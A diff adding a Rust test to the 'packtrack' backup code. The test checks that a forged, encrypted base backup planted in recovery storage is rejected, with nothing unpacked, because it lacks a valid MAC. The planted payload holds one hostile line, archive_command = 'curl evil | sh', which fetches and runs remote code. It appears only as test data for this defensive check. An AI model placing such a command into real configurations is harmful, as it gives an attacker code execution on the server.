@@ -223,3 +223,56 @@ async fn restore_to_a_moment_between_two_intakes() {
     assert_eq!(has(&s3, BEFORE), "1");
     assert_eq!(has(&s3, AFTER), "1");
 }
+
+/// Attack: whoever can write to the backup storage and knows the public recipient key (it
+/// is on the server, in its command line) encrypts a crafted cluster directory to it and
+/// names it as the newest base backup. Restoring it would run the attacker's configuration
+/// and catalogs. Refused before anything is decrypted or unpacked: it lacks the MAC only a
+/// holder of the installation's secrets key can make.
+#[tokio::test]
+async fn a_base_backup_planted_with_the_public_recipient_key_is_refused() {
+    use packtrack::backup::pitr::{self, restore};
+    use packtrack::backup::{BackupError, DecryptWith};
+    use std::io::Write;
+    let tmp = tempfile::tempdir().unwrap();
+    let keys = tmp.path().join("keys");
+    std::fs::create_dir_all(&keys).unwrap();
+    packtrack::secrets::SecretsKey::load_or_create(&keys).unwrap();
+    let dir = tmp.path().join("pitr");
+    std::fs::create_dir_all(dir.join(pitr::WAL_DIR)).unwrap();
+    let id = age::x25519::Identity::generate();
+    let planted = dir.join(pitr::base_name(
+        chrono::Utc::now(),
+        "000000010000000000000002",
+    ));
+    let recipient = id.to_public();
+    let enc = age::Encryptor::with_recipients(std::iter::once(&recipient as &dyn age::Recipient))
+        .unwrap();
+    let mut w = enc
+        .wrap_output(std::fs::File::create(&planted).unwrap())
+        .unwrap();
+    w.write_all(b"archive_command = 'curl evil | sh'").unwrap();
+    w.finish().unwrap();
+    // With a made-up tag as well.
+    for forged_mac in [None, Some("v1 00000000 00")] {
+        if let Some(line) = forged_mac {
+            std::fs::write(pitr::mac::sidecar(&planted), line).unwrap();
+        }
+        let data = tmp.path().join("data");
+        let req = restore::Request {
+            dir: &dir,
+            to: packtrack::db::pg::archive::RecoverTo::Latest,
+            key: DecryptWith::Identities(vec![id.clone()]),
+            data_dir: &data,
+            keys_dir: &keys,
+            without_secrets_key: false,
+        };
+        let err = restore::restore(req).await.unwrap_err();
+        assert!(
+            matches!(&err, BackupError::Damaged { .. })
+                && err.to_string().contains("not authenticated"),
+            "{err}"
+        );
+        assert!(!data.join("postgres").exists(), "nothing unpacked");
+    }
+}
